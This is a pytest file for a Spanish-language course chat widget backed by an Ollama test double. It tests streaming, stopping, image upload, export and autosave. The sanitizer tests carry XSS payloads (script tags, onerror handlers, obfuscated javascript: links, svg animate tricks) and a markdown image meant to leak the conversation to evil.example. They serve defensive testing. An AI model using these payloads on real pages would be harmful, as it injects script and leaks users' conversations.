"""The chat widget's logic, driven from Python against the Ollama double (the browser tests cover the page)."""

import base64
import io
import json
import time
from datetime import UTC, datetime

import pytest
from PIL import Image

from course_utils.chat import ChatWidget, executable_parts, render_markdown
from course_utils.errors import CourseError
from tests.ollama_double import PREFIX

XSS = (
    '<img src=x onerror="window.__xss=1"> <script>window.__xss=2</script> [a](javascript:window.__xss=3) '
    '<a href="javascript:window.__xss=4">b</a> [c](JaVaScRiPt:alert(1)) ![d](javascript:alert(2))'
)


def upload_item(data: bytes, name: str = "foto.jpg") -> dict:
    return {
        "name": name,
        "type": "image/jpeg",
        "size": len(data),
        "content": memoryview(data),
        "last_modified": datetime.now(UTC),
    }


def texts(chat: ChatWidget) -> list[str]:
    return [bubble.value for bubble in chat.pane.children]


def answer_text(chat: ChatWidget) -> str:
    return chat.history[-1].content


def decode(b64: str) -> Image.Image:
    return Image.open(io.BytesIO(base64.b64decode(b64)))


@pytest.fixture
def chat(ollama_double, tmp_path):
    widget = ChatWidget(export_dir=tmp_path / "conversaciones")
    yield widget
    widget.stop()
    widget.wait(10)


def test_markdown_is_rendered_and_executable_html_is_not():
    rendered = render_markdown("**negrita** y `código`\n\n- uno\n- dos\n\n[curso](https://example.org)")
    assert "<strong>negrita</strong>" in rendered and "<code>código</code>" in rendered and "<li>uno</li>" in rendered
    assert 'href="https://example.org"' in rendered and 'rel="noopener noreferrer"' in rendered
    safe = render_markdown(XSS)
    assert executable_parts(safe) == []
    assert "<script" not in safe and "<img" not in safe and "javascript:" not in safe.split("[")[0]


def test_executable_parts_finds_what_a_browser_would_run():
    found = executable_parts(XSS.replace("[a]", "x") + '<svg onload="f()"></svg><a href=" JavaScript:x">')
    assert "onerror= en <img>" in found and "<script>" in found and "onload= en <svg>" in found
    assert sum(part.startswith("href=") for part in found) == 2


def test_model_picker_is_filled_from_the_server(ollama_double, tmp_path):
    ollama_double.models = ["llava:7b", "llama3.2-vision:latest"]
    chat = ChatWidget(export_dir=tmp_path, temperature=0.2)
    assert chat.temperature.value == pytest.approx(0.2)
    assert [value for _label, value in chat.model_picker.options] == ["llava:7b", "llama3.2-vision:latest"]
    assert chat.model_picker.value == "llama3.2-vision:latest"
    assert "2 modelo(s)" in chat.status.value and not chat.pane.children


def test_model_not_pulled_is_explained_in_the_pane(ollama_double, tmp_path):
    ollama_double.models = ["llava:7b"]
    chat = ChatWidget(export_dir=tmp_path)
    assert chat.model_picker.value == "llava:7b"
    assert "ollama pull llama3.2-vision" in texts(chat)[-1] and "course-error" in texts(chat)[-1]


def test_unreachable_server_is_explained_and_the_widget_still_builds(monkeypatch, closed_port, tmp_path):
    monkeypatch.setenv("OLLAMA_HOST", closed_port)
    chat = ChatWidget(export_dir=tmp_path)
    assert "No hay ningún servidor de Ollama" in texts(chat)[-1]
    assert "ollama serve" in texts(chat)[-1]


def test_text_is_sent_and_the_streamed_answer_rendered(chat, ollama_double):
    chat.temperature.value = 0.3
    chat.prompt.value = "Hola **tú**"
    assert chat.send()
    assert chat.wait(20)
    body = ollama_double.chats()[-1]
    assert body["stream"] is True and body["options"]["temperature"] == pytest.approx(0.3)
    assert body["messages"][0]["role"] == "system" and body["messages"][-1]["content"] == "Hola **tú**"
    assert [m.role for m in chat.history] == ["user", "assistant"]
    assert chat.history[1].content.startswith(PREFIX)
    assert "Hola **tú**" in texts(chat)[0]  # the student's text is shown as typed
    assert "<strong>tú</strong>" in texts(chat)[1]  # the answer's Markdown is rendered
    assert chat.prompt.value == "" and not chat.send_button.disabled and chat.stop_button.disabled


def test_enter_in_the_text_area_sends(chat, ollama_double):
    chat.prompt._handle_custom_msg({"type": "submit", "value": "Con Enter"}, [])
    chat.wait(20)
    assert ollama_double.chats()[-1]["messages"][-1]["content"] == "Con Enter"


def test_empty_message_is_not_sent(chat, ollama_double):
    assert not chat.send("   ")
    assert ollama_double.chats() == [] and "Escribe una pregunta" in chat.status.value


def test_second_send_is_ignored_while_streaming_and_stop_keeps_the_partial_answer(chat, ollama_double):
    words = [f"palabra{i}" for i in range(60)]
    ollama_double.replies.append(" ".join(words))
    ollama_double.chunk_delay = 0.5  # Parar lands long before the end, even on a loaded machine
    assert chat.send("Primera")
    assert not chat.send("Segunda")
    assert "Espera" in chat.status.value and chat.send_button.disabled and not chat.stop_button.disabled
    deadline = time.monotonic() + 10
    while "palabra1" not in texts(chat)[-1] and time.monotonic() < deadline:  # some words have arrived
        time.sleep(0.02)
    chat.stop()
    assert chat.wait(20)
    assert len(ollama_double.chats()) == 1 and "palabra1" in answer_text(chat)
    answer = chat.history[-1]
    assert answer.stopped and words[-1] not in answer.content
    assert "respuesta detenida" in texts(chat)[-1]
    assert chat.send("Segunda") and chat.wait(20)  # usable again after stopping


def test_history_is_sent_with_the_latest_image_only(chat, ollama_double, samples):
    chat.attach_image(samples / "gato.jpg")
    chat.send("¿Qué animal es?")
    chat.wait(20)
    chat.attach_image(samples / "cafe.jpg")
    chat.send("¿Y esta?")
    chat.wait(20)
    chat.send("¿De qué color es?")
    chat.wait(20)
    messages = ollama_double.chats()[-1]["messages"]
    with_images = [m for m in messages if m.get("images")]
    assert len(with_images) == 1 and with_images[0]["content"] == "¿Y esta?"
    assert [m["role"] for m in messages] == ["system", "user", "assistant", "user", "assistant", "user"]


def test_uploaded_image_is_previewed_and_sent(chat, ollama_double, samples):
    chat.upload.value = (upload_item((samples / "gato.jpg").read_bytes()),)
    assert chat._attachment.layout.display == "flex" and chat.preview.value
    assert chat.upload.value == ()  # ready for the next upload
    chat.send("¿Qué ves?")
    chat.wait(20)
    image = decode(ollama_double.chats()[-1]["messages"][-1]["images"][0])
    assert image.size == Image.open(samples / "gato.jpg").size
    assert 'src="data:image/jpeg;base64,' in texts(chat)[0]
    assert "Imágenes: JPEG" in chat.history[-1].content
    assert chat._attachment.layout.display == "none"  # the attachment went with the message


def test_removed_image_is_not_sent(chat, ollama_double, samples):
    chat.attach_image(samples / "gato.jpg")
    chat.remove_image()
    chat.send("Sin imagen")
    chat.wait(20)
    assert "images" not in ollama_double.chats()[-1]["messages"][-1]


def test_a_file_that_is_not_an_image_is_explained(chat):
    chat.upload.value = (upload_item(b"esto no es una imagen", "notas.txt"),)
    assert "notas.txt" in texts(chat)[-1] and "no es una imagen" in texts(chat)[-1]
    assert chat._attachment.layout.display == "none" and chat.upload.value == ()


def test_server_error_keeps_the_text_the_image_and_the_history(chat, ollama_double, samples):
    chat.send("Primera")
    chat.wait(20)
    ollama_double.failures.append((500, "model runner has unexpectedly stopped"))
    chat.attach_image(samples / "gato.jpg")
    chat.send("Mi pregunta larga")
    chat.wait(20)
    assert chat.prompt.value == "Mi pregunta larga" and chat._image is not None
    assert [m.content for m in chat.history[2:]] == ["Mi pregunta larga", ""] and chat.history[2].images
    assert chat.history[3].interrupted and "Mi pregunta larga" in texts(chat)[-2]
    assert "course-error" in texts(chat)[-1]
    assert chat.send() and chat.wait(20)  # resending works
    assert len(chat.history) == 6 and chat.history[4].images and chat.history[5].content


def test_cut_stream_is_explained_and_the_text_kept(chat, ollama_double):
    ollama_double.cut_after_chunks = 2
    chat.send("Se va a cortar")
    chat.wait(20)
    assert "se cortó" in texts(chat)[-1] and chat.history[0].content == "Se va a cortar"
    assert chat.prompt.value == "Se va a cortar"


def test_answer_with_xss_payload_is_inert(chat, ollama_double):
    ollama_double.replies.append(XSS)
    chat.send("Repite esto")
    chat.wait(20)
    assert executable_parts(texts(chat)[-1]) == []
    assert chat.history[-1].content == XSS  # kept verbatim in the history and the export


def test_recording_is_transcribed_into_the_text_area(chat, samples):
    chat.prompt.value = "Antes:"
    recording = (samples / "hola.wav").read_bytes()
    chat.recorder._handle_custom_msg({"type": "audio", "mime": "audio/wav"}, [recording])
    assert chat.wait(60)
    assert chat.prompt.value.startswith("Antes: ") and len(chat.prompt.value) > len("Antes: ")
    assert "Transcripción lista" in chat.status.value and "modelo de prueba" in chat.status.value.lower()
    assert not chat.recorder.disabled


def test_bad_recording_is_explained(chat):
    chat.recorder._handle_custom_msg({"type": "audio", "mime": "audio/webm"}, [b"no es audio"])
    assert chat.wait(60)
    assert "course-error" in texts(chat)[-1] and "audio" in texts(chat)[-1]
    assert chat.prompt.value == "" and not chat.recorder.disabled


def test_insecure_page_explains_how_to_use_the_microphone(chat):
    chat.recorder._handle_custom_msg({"type": "error", "reason": "insecure", "detail": "http://10.0.0.5:8888"}, [])
    assert "contexto seguro" in texts(chat)[-1] and "túnel SSH" in texts(chat)[-1]


def test_export_writes_markdown_and_json_with_images(chat, samples, tmp_path):
    chat.attach_image(samples / "gato.jpg")
    chat.send("¿Qué ves?")
    chat.wait(20)
    md_path, json_path = chat.export()
    assert md_path.parent == tmp_path / "conversaciones"
    data = json.loads(json_path.read_text(encoding="utf-8"))
    assert [m["role"] for m in data["messages"]] == ["user", "assistant"]
    assert decode(data["messages"][0]["images"][0]).format == "JPEG"
    markdown = md_path.read_text(encoding="utf-8")
    assert "## Tú" in markdown and "## Asistente" in markdown
    assert "![imagen adjunta](data:image/jpeg;base64," in markdown
    assert f'download="{json_path.name}"' in chat.downloads.value


def test_clear_empties_the_conversation_but_not_while_streaming(chat, ollama_double):
    ollama_double.replies.append(" ".join(["x"] * 80))
    ollama_double.chunk_delay = 0.5  # Parar lands long before the end, even on a loaded machine
    chat.send("Larga")
    chat.clear()
    assert "Parar" in chat.status.value and len(chat.pane.children) == 2
    chat.stop()
    chat.wait(20)
    chat.clear()
    assert chat.history == [] and chat.pane.children == ()


# --- nothing lost, nothing hangs (issue 10) -----------------------------------------------------------


def test_cut_stream_keeps_the_question_and_the_partial_answer_marked_interrupted(chat, ollama_double, samples):
    ollama_double.replies.append("uno dos tres cuatro cinco seis siete ocho")
    ollama_double.cut_after_chunks = 3
    chat.attach_image(samples / "gato.jpg")
    chat.send("Se va a cortar")
    assert chat.wait(20)
    question, answer = chat.history
    assert question.content == "Se va a cortar" and question.images
    assert answer.content == "uno dos tres " and answer.interrupted and not answer.stopped
    bubbles = texts(chat)
    assert "Se va a cortar" in bubbles[0] and "uno dos tres" in bubbles[1] and "interrumpida" in bubbles[1]
    assert "se cortó" in bubbles[-1] and "course-error" in bubbles[-1]
    assert "uno dos tres" in chat.to_markdown() and "interrumpida" in chat.to_markdown()
    assert chat.to_json()["messages"][1]["interrupted"]
    # the question is also back in the text box, ready to send again
    assert chat.prompt.value == "Se va a cortar" and chat._image is not None


def test_what_the_student_types_and_attaches_while_streaming_survives_a_failure(chat, ollama_double, samples):
    ollama_double.replies.append(" ".join(f"p{i}" for i in range(40)))
    ollama_double.chunk_delay = 0.2  # time to type and attach before the cut
    ollama_double.cut_after_chunks = 20
    chat.attach_image(samples / "gato.jpg")
    assert chat.send("Primera")
    chat.prompt.value = "Segunda, escrita mientras llega la respuesta"
    chat.attach_image(samples / "cafe.jpg")
    new_photo = chat._image
    assert chat.wait(20)
    assert chat.prompt.value == "Segunda, escrita mientras llega la respuesta"
    assert chat._image == new_photo
    question, answer = chat.history
    assert question.content == "Primera" and question.images and question.images[0] != new_photo
    assert answer.content.startswith("p0 p1") and answer.interrupted


def test_an_interrupted_turn_with_no_answer_is_kept_but_not_sent_to_the_model(chat, ollama_double):
    ollama_double.failures.append((500, "model runner has unexpectedly stopped"))
    chat.send("Sin respuesta")
    assert chat.wait(20)
    assert [m.content for m in chat.history] == ["Sin respuesta", ""] and chat.history[1].interrupted
    chat.prompt.value = ""
    chat.send("Otra")
    assert chat.wait(20)
    sent = [m["content"] for m in ollama_double.chats()[-1]["messages"] if m["role"] != "system"]
    assert sent == ["Otra"]


def test_export_to_a_bad_folder_is_explained_and_nothing_is_overwritten(chat, tmp_path):
    chat.send("Hola")
    assert chat.wait(20)
    a_file = tmp_path / "archivo.txt"
    a_file.write_text("x")
    with pytest.raises(CourseError, match="carpeta"):
        chat.export(a_file)
    chat.export_dir = a_file
    chat.export_button.click()
    assert "course-error" in texts(chat)[-1] and "archivo.txt" in texts(chat)[-1]
    first = chat.export(tmp_path / "out")
    second = chat.export(tmp_path / "out")
    assert first[0] != second[0] and first[1] != second[1]
    assert len(list((tmp_path / "out").iterdir())) == 4


def test_model_output_cannot_load_remote_images():
    rendered = render_markdown(
        "mira ![secreto](http://evil.example/leak?q=conversacion) y [enlace](https://example.org)"
    )
    assert "<img" not in rendered and "evil.example" in rendered  # shown as text or a plain link
    assert 'href="https://example.org"' in rendered


@pytest.mark.parametrize(
    "html_text, found",
    [
        ('<a href="java&#09;script:alert(1)">x</a>', "href="),
        ('<a href="java\nscript:alert(1)">x</a>', "href="),
        ('<a href="&#106;avascript:alert(1)">x</a>', "href="),
        ('<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>', "xlink:href="),
        ('<svg><a><animate attributeName="href" values="javascript:alert(1)"/></a></svg>', "values="),
        ('<svg><set attributeName="href" to="javascript:alert(1)"/></svg>', "to="),
        ('<iframe srcdoc="<script>alert(1)</script>"></iframe>', "<iframe>"),
    ],
)
def test_executable_parts_sees_through_obfuscation(html_text, found):
    assert any(part.startswith(found) for part in executable_parts(html_text)), executable_parts(html_text)


@pytest.mark.parametrize("host", ["localhost:114340", "http://[::1", "ftp://servidor:11434"])
def test_a_malformed_ollama_host_is_explained_and_the_widget_still_builds(monkeypatch, tmp_path, host):
    monkeypatch.setenv("OLLAMA_HOST", host)
    chat = ChatWidget(export_dir=tmp_path)
    assert "OLLAMA_HOST" in texts(chat)[-1] and "course-error" in texts(chat)[-1]
    chat.send("Hola")
    assert chat.wait(20)
    assert [m.content for m in chat.history] == ["Hola", ""] and "OLLAMA_HOST" in texts(chat)[-1]


def test_stop_works_before_the_first_word_and_closes_the_request(chat, ollama_double):
    ollama_double.hang = True
    assert chat.send("¿Hay alguien?")
    assert ollama_double.hanging.wait(10)
    # the status says how long the student has been waiting (it is refreshed every second)
    deadline = time.monotonic() + 10
    while "(1 s)" not in chat.status.value and time.monotonic() < deadline:
        time.sleep(0.05)
    assert "esperando la primera palabra (1 s)" in chat.status.value and "Parar" in chat.status.value
    chat.stop()
    assert chat.wait(10), "Parar did not end the wait"
    assert ollama_double.disconnected.wait(10), "the HTTP request was left open"
    question, answer = chat.history
    assert question.content == "¿Hay alguien?" and answer.stopped and answer.content == ""
    assert not chat.send_button.disabled and chat.stop_button.disabled
    assert "respuesta detenida" in texts(chat)[-1]


# --- conversation controls, statistics, autosave (issue 15) ---------------------------------------------


def page_says(chat: ChatWidget, **content) -> None:
    """What chat_actions.js sends from the page: a click on a bubble's button, Esc, ↑."""
    chat.page._handle_custom_msg(content, [])


def test_every_message_has_a_copy_button_with_its_raw_text_and_answers_a_read_aloud_button(chat):
    chat.send('Texto con "comillas" & <b>etiquetas</b>')
    chat.wait(20)
    question, answer = texts(chat)
    assert 'class="course-copy"' in question and 'data-copy="Texto con &quot;comillas&quot; &amp; &lt;b&gt;' in question
    assert 'class="course-copy"' in answer and 'class="course-speak"' in answer and "course-speak" not in question
    assert f'data-copy="{PREFIX}' in answer  # the Markdown as it arrived, not the HTML
    assert 'aria-label="Copiar la respuesta (Markdown)"' in answer and 'aria-label="Copiar tu pregunta"' in question


def test_statistics_are_shown_under_each_answer(chat):
    chat.send("Hola")
    chat.wait(20)
    stats = chat.history[-1].stats
    assert stats.eval_count > 0
    assert f'<div class="course-stats">{stats.summary()}</div>' in texts(chat)[-1] and "tokens/s" in stats.summary()


def test_regenerate_asks_again_and_keeps_the_replaced_answer(chat, ollama_double):
    ollama_double.replies += ["Primera respuesta", "Segunda respuesta"]
    chat.send("¿Cuánto es 2+2?")
    chat.wait(20)
    assert 'data-action="regenerate"' in texts(chat)[1] and 'data-action="edit"' in texts(chat)[0]
    page_says(chat, type="action", action="regenerate", index=1)
    assert chat.wait(20)
    assert [m.content for m in chat.history] == [
        "¿Cuánto es 2+2?",
        "Primera respuesta",
        "¿Cuánto es 2+2?",
        "Segunda respuesta",
    ]
    assert [m.replaced for m in chat.history] == [True, True, False, False]
    sent = ollama_double.chats()[-1]["messages"]
    assert [m["role"] for m in sent] == ["system", "user"]  # the replaced turn is not sent again
    shown = texts(chat)
    assert "course-replaced" in shown[1] and "(respuesta sustituida)" in shown[1] and "Primera respuesta" in shown[1]
    assert "data-action" not in shown[0] + shown[1]  # only the last turn offers regenerate and edit
    assert 'data-action="regenerate"' in shown[3]


def test_regenerate_keeps_the_image_of_the_question(chat, ollama_double, samples):
    chat.attach_image(samples / "gato.jpg")
    chat.send("¿Qué animal es?")
    chat.wait(20)
    assert chat.regenerate() and chat.wait(20)
    assert len(ollama_double.chats()[-1]["messages"][-1]["images"]) == 1


def test_edit_puts_the_last_question_back_and_sending_replaces_the_turn(chat, ollama_double, samples):
    chat.attach_image(samples / "gato.jpg")
    chat.send("¿Qué animal es?")
    chat.wait(20)
    page_says(chat, type="edit_last")  # ↑ in the empty text area
    assert chat.prompt.value == "¿Qué animal es?" and chat._image is not None and "Editando" in chat.status.value
    chat.prompt.value = "¿De qué raza es?"
    chat.send()
    assert chat.wait(20)
    assert [m.content for m in chat.history][::2] == ["¿Qué animal es?", "¿De qué raza es?"]
    assert [m.replaced for m in chat.history] == [True, True, False, False]
    sent = ollama_double.chats()[-1]["messages"]
    assert [m["content"] for m in sent if m["role"] == "user"] == ["¿De qué raza es?"] and sent[-1]["images"]
    assert "(pregunta sustituida)" in texts(chat)[0]


def test_edit_never_overwrites_what_the_student_is_typing(chat):
    chat.send("Primera")
    chat.wait(20)
    chat.prompt.value = "Algo a medias"
    assert not chat.edit_last()
    assert chat.prompt.value == "Algo a medias" and "vacía antes el cuadro" in chat.status.value


def test_escape_cancels_an_edit_and_the_text_becomes_a_new_question(chat):
    chat.send("Primera")
    chat.wait(20)
    assert chat.edit_last()
    page_says(chat, type="stop")  # Esc with no answer streaming
    assert "Edición cancelada" in chat.status.value and chat.prompt.value == "Primera"
    chat.send()
    chat.wait(20)
    assert [m.replaced for m in chat.history] == [False] * 4


def test_escape_stops_the_answer(chat, ollama_double):
    ollama_double.replies.append(" ".join(f"palabra{i}" for i in range(60)))
    ollama_double.chunk_delay = 0.5
    chat.send("Cuenta")
    deadline = time.monotonic() + 10
    while "palabra1" not in texts(chat)[-1] and time.monotonic() < deadline:
        time.sleep(0.02)
    page_says(chat, type="stop")
    assert chat.wait(20) and chat.history[-1].stopped and "palabra1" in chat.history[-1].content


def test_regenerate_and_edit_wait_for_the_answer_and_need_a_turn(chat, ollama_double):
    assert not chat.regenerate() and "Aún no hay ninguna respuesta" in chat.status.value
    assert not chat.edit_last() and "Aún no hay ninguna pregunta" in chat.status.value
    ollama_double.replies.append(" ".join(["x"] * 80))
    ollama_double.chunk_delay = 0.5
    chat.send("Larga")
    assert not chat.regenerate() and not chat.edit_last() and "Espera" in chat.status.value
    chat.stop()
    chat.wait(20)
    assert chat.regenerate()  # a stopped answer can be regenerated
    chat.stop()
    chat.wait(20)


def test_each_turn_is_autosaved_and_restored_into_a_new_widget(chat, ollama_double, tmp_path, samples):
    chat.attach_image(samples / "gato.jpg")
    chat.send("¿Qué animal es?")
    chat.wait(20)
    chat.regenerate()
    chat.wait(20)
    (saved,) = (tmp_path / "conversaciones").glob("*.json")
    assert len(json.loads(saved.read_text(encoding="utf-8"))["messages"]) == 4
    assert chat.saved_picker.options[1][1] == str(saved)

    # After a restart of the kernel: a new widget, the conversation picked from the list.
    again = ChatWidget(export_dir=tmp_path / "conversaciones")
    again.saved_picker.value = str(saved)
    again.open_button.click()
    assert again.history == chat.history and len(again.pane.children) == 4
    assert "recuperada" in again.status.value and 'data-action="regenerate"' in texts(again)[-1]
    assert "course-replaced" in texts(again)[1] and "tokens/s" in texts(again)[-1]
    again.send("¿Y de qué color?")
    again.wait(20)
    sent = ollama_double.chats()[-1]["messages"]
    assert [m["content"] for m in sent if m["role"] == "user"] == ["¿Qué animal es?", "¿Y de qué color?"]
    assert len(json.loads(saved.read_text(encoding="utf-8"))["messages"]) == 6  # it goes on in the same file
    assert len(list((tmp_path / "conversaciones").glob("*.json"))) == 1


def test_restore_argument_and_an_export_is_never_overwritten(chat, tmp_path):
    chat.send("Hola")
    chat.wait(20)
    md_path, json_path = chat.export()
    exported = json_path.read_text(encoding="utf-8")
    again = ChatWidget(export_dir=tmp_path / "conversaciones", restore=json_path)
    assert [m.content for m in again.history] == [m.content for m in chat.history]
    again.send("Sigo")
    again.wait(20)
    assert json_path.read_text(encoding="utf-8") == exported  # the continuation went to a new file
    assert len(list((tmp_path / "conversaciones").glob("*.json"))) == 3


def test_a_bad_restore_is_explained_and_the_widget_still_builds(ollama_double, tmp_path):
    chat = ChatWidget(export_dir=tmp_path, restore=tmp_path / "no-existe.json")
    assert "No existe la conversación guardada" in texts(chat)[-1] and chat.history == []
    chat.open_button.click()
    assert "Elige en «Recuperar»" in chat.status.value


def test_clear_starts_a_new_file_and_the_old_conversation_can_be_opened(chat, tmp_path):
    chat.send("Antes")
    chat.wait(20)
    chat.clear()
    assert "sigue guardada" in chat.status.value
    chat.send("Después")
    chat.wait(20)
    assert len(list((tmp_path / "conversaciones").glob("*.json"))) == 2
    older = next(path for label, path in chat.saved_picker.options if "Antes" in label)
    assert chat.restore(older) and chat.history[0].content == "Antes"


def test_autosave_can_be_turned_off(ollama_double, tmp_path):
    chat = ChatWidget(export_dir=tmp_path / "c", autosave=False)
    chat.send("Hola")
    chat.wait(20)
    assert not (tmp_path / "c").exists()


def test_an_action_the_moment_the_answer_ends_is_not_overwritten_by_its_end(chat, monkeypatch):
    """↑ pressed just as the chat becomes free again: its «Editando» stays (the end of the answer, its
    status and its autosave are all done before the chat takes actions)."""
    free = chat._set_busy

    def then_arrow_up(busy: bool) -> None:
        free(busy)
        if not busy:
            page_says(chat, type="edit_last")

    monkeypatch.setattr(chat, "_set_busy", then_arrow_up)
    chat.send("Primera")
    assert chat.wait(20)
    assert chat.prompt.value == "Primera" and "Editando" in chat.status.value
